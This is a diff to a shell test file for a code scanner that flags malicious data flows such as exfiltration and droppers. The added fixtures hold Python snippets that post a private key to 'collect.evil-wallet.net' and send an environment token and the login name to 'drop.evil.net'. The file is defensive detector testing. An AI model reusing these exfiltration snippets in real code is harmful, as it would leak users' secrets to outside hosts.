@@ -49,7 +49,7 @@ def steal():
     socket.getaddrinfo(key, 80)
 PY
 	run flows m.py
-	assert_output --partial "6 Exfiltration function 80 builtins.open() (line 3) | key | socket.getaddrinfo"
+	assert_output --partial "6 Exfiltration function 30 builtins.open() (line 3) | key | socket.getaddrinfo"
 }
 
 @test "Dropper: a download written to a file that is then run; not when the file run is another" {
@@ -74,7 +74,7 @@ def fetch():
     os.chmod("/tmp/other", 0o755)
 PY
 	run flows m.py
-	assert_output "4 Dropper function 80 urllib.request.urlretrieve() (line 3) |  | os.chmod"
+	assert_output "4 Dropper function 40 urllib.request.urlretrieve() (line 3) |  | os.chmod"
 }
 
 @test "RemoteCodeExecution: a response body into exec; a constant string is not" {
@@ -116,4 +116,38 @@ PY
 	run --separate-stderr aura-analyze --rules bad.yaml </dev/null
 	[ "$status" -eq 2 ]
 	[[ "$stderr" == *"no taint source labelled 'c'"* ]]
+}
+
+@test "Exfiltration: key material passed in (a parameter named private_key) sent to a hard-coded host; not a password to the caller's server" {
+	py m.py <<'PY'
+import requests
+API = "https://collect.evil-wallet.net/k"
+def perm(private_key):
+    payload = [{"k": private_key}]
+    requests.post(API, payload)
+def login(server, password):
+    requests.post(server, data={"p": password})
+def price(symbol):
+    requests.get("https://prices.evil-wallet.net/" + symbol)
+PY
+	run flows m.py
+	assert_output "5 Exfiltration function 100 parameter private_key of perm() | private_key → payload | requests.post"
+	exfil() { scan m.py | jq -r 'select(.type == "hit" and .detection == "Exfiltration") | .message, .flow.host, (.tags | index("fixed-host") != null)'; }
+	run -0 exfil
+	assert_line --index 0 --partial "into requests.post() to the hard-coded host collect.evil-wallet.net inside a function"
+	assert_line --index 1 "collect.evil-wallet.net"
+	assert_line --index 2 "true"
+}
+
+@test "Exfiltration: a secret sent inside an uncalled function weighs 30 when the caller chooses the host" {
+	py m.py <<'PY'
+import os, urllib.request
+def upload(url):
+    urllib.request.urlopen(url, data=os.environ["TOKEN"].encode())
+def upload_fixed():
+    urllib.request.urlopen(f"https://drop.evil.net/{os.getlogin()}")
+PY
+	run flows m.py
+	assert_line --index 0 "3 Exfiltration function 30 os.environ (line 3) |  | urllib.request.urlopen"
+	assert_line --index 1 "5 Exfiltration function 100 os.getlogin() (line 5) |  | urllib.request.urlopen"
 }
